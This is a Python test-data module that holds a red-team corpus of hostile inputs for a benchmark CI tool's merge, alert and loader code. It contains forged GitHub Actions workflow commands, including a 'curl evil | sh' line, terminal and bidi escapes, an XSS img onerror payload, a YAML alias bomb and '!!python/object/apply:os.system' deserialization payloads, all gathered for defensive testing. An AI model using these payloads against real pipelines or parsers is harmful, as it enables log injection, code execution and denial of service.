"""The red-team corpus of issue 27: inputs the earlier hostile corpus (tests/test_hostile_corpus.py)
did not have, as data. ``tests/test_redteam.py`` runs each entry through the real code
(``ci merge``, ``ci alert``, ``compare``, the loaders, every escaping sink) and asserts
what must hold; docs/hostile-input.md gives the count that held.

- ``TEXTS``: strings a pull request puts in any text field (benchmark names, parameter
  values, units, notes, failure messages, error.txt, artifact names, profiles, what grew):
  runner commands anywhere in a line, terminal escapes, bidi and zero-width characters,
  NUL, lone surrogates, C1 and Unicode line breaks, 10,000-character names.
- ``JSON_BODIES``: what a JSON artifact file can hold instead of its content: deep nesting,
  non-finite and out-of-range numbers, huge integers, a key given twice.
- ``YAML_BODIES``: what ``benchmarks/accepted.yaml`` or a ``--config`` can hold: alias
  bombs, merge keys, tags, duplicate keys, deep nesting, non-finite numbers, several
  documents, bytes that are not UTF-8, a file over the size bound.
"""

from __future__ import annotations

TEXTS: dict[str, str] = {
    "hash-error-first": "##[error]pwned by a benchmark name",
    "hash-command-mid-line": "case ##[command]curl evil | sh ##[group]hidden",
    "warning-mid-line": "name ::warning file=a,line=1::mid-line",
    "warning-after-cr": "ok\r::warning::after a carriage return",
    "commands-after-newlines": "a\n::add-mask::secret\n::set-output name=x::y\n  ::error::indented",
    "forged-stop-commands": "::stop-commands::deadbeefdeadbeefdeadbeefdeadbeef\n::error::inside\n::deadbeefdeadbeefdeadbeefdeadbeef::",
    "esc-clear-screen": "\x1b[2J\x1b[H\x1b]0;window title\x07\x1b[31mcleared",
    "rlo-override": "bench\u202egnp.exe\u202c_tail",
    "bidi-isolates-marks": "\u2066a\u2069\u2067b\u2069\u2068c\u2069\u200ed\u200fe\u061cf\u202ag\u202bh\u202d",
    "zwj-inside-command": ":\u200d:error::zero-width joiner",
    "bom-first": "\ufeff::error::byte-order mark first",
    "zero-width-space-word-joiner": "\u200b::warning::zwsp\u2060\u200c",
    "nul-byte": "a\x00::error::after NUL",
    "lone-surrogates": "lone \ud800 surrogate \udfff pair",
    "c1-nel-csi": "\x85::error::next line\x9b31m C1",
    "unicode-line-separators": "a\u2028::error::line sep\u2029::error::para sep",
    "vertical-tab-form-feed": "a\x0b::error::vt\x0c::error::ff\x1c::error::fs",
    "ten-thousand-chars": "L" * 10_000 + "##[error]at the end",
    "mention-html-link": "@octocat <img src=x onerror=alert(1)> [x](https://evil.example/p) <!-- -->",
    "tag-characters-soft-hyphen": "\U000e0041\U000e0042tags\u00adsoft\u2062invisible times",
    "backtick-pipe-code-span": "`|` ``x`` | --- |\n| a | b |",
}

# name -> (body, what a reader must say; the check is by substring, case-insensitive)
JSON_BODIES: dict[str, str] = {
    "nested-100k": "[" * 100_000,
    "nested-object-10k": '{"a":' * 10_000 + "1" + "}" * 10_000,
    "infinity": '[{"case": "c", "base_total": Infinity, "head_total": 1}]',
    "nan": '[{"case": "c", "base_total": NaN, "head_total": 1}]',
    "overflow-1e400": '[{"case": "c", "base_total": 1e400, "head_total": 1}]',
    "negative-overflow": '[{"case": "c", "base_total": -1e400, "head_total": 1}]',
    "huge-int-100-digits": '[{"case": "c", "base_total": ' + "9" * 100 + ', "head_total": 1}]',
    "huge-int-5000-digits": "[" + "7" * 5000 + "]",
    "duplicate-keys": '[{"case": "c", "case": "d", "base_total": 1, "head_total": 2}]',
    "negative-zero-rows": '[{"case": "c", "base_total": -0.0, "head_total": 1, '
                          '"functions": [{"name": "f", "base": -0.0, "head": 1e308, "share": -0.0}]}]',
}

_BOMB = (  # 9**6 = 531,441 strings from under 500 bytes
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
    "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
    "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
    "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
    "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
    "accepted: [{case: '*', pr: 7, reason: *f}]\n"
)

YAML_BODIES: dict[str, tuple[bytes, str]] = {
    "alias-bomb": (_BOMB.encode(), "anchor"),
    "anchor-alone": (b"accepted: &x [{case: a, pr: 7, reason: r}]\n", "anchor"),
    "merge-key-inline": (b"accepted:\n  - <<: {case: a, pr: 7}\n    reason: r\n", "merge key"),
    "merge-key-alias": (b"base: &b {case: a, pr: 7}\naccepted:\n  - <<: *b\n    reason: r\n", "anchor"),
    "python-object": (b"accepted: !!python/object/apply:os.system ['echo pwned']\n", "tag"),
    "python-name": (b"accepted: [{case: !!python/name:os.system x, pr: 7, reason: r}]\n", "tag"),
    "binary-tag": (b"accepted: [{case: !!binary aGk=, pr: 7, reason: r}]\n", "tag"),
    "custom-tag": (b"accepted: [{case: !evil x, pr: 7, reason: r}]\n", "tag"),
    "explicit-str-tag": (b"accepted: [{case: !!str x, pr: 7, reason: r}]\n", "tag"),
    "duplicate-key": (b"accepted: []\naccepted: [{case: '*', pr: 7, reason: r}]\n", "twice"),
    "duplicate-key-in-entry": (b"accepted: [{case: a, case: b, pr: 7, reason: r}]\n", "twice"),
    "nested-5000": (b"accepted: " + b"[" * 5000 + b"]" * 5000 + b"\n", "nested"),
    "infinity": (b"factor: [.inf, .inf]\naccepted: [{case: a, pr: .inf, reason: r}]\n", "not finite"),
    "nan": (b"factor: [.nan, .nan]\naccepted: [{case: a, pr: .nan, reason: r}]\n", "not finite"),
    "huge-int": (b"accepted: [{case: a, pr: " + b"9" * 5000 + b", reason: r}]\n", "characters"),
    "two-documents": (b"accepted: []\n---\naccepted: [{case: '*', pr: 7, reason: r}]\n", "single document"),
    "not-utf8": (b"accepted: [{case: \xff\xfe, pr: 7, reason: r}]\n", "utf-8"),
    "nul-byte": (b"accepted: [{case: a\x00, pr: 7, reason: r}]\n", "yaml"),
    "over-the-size-bound": (b"# " + b"x" * (300 << 10) + b"\naccepted: []\n", "over the limit"),
}
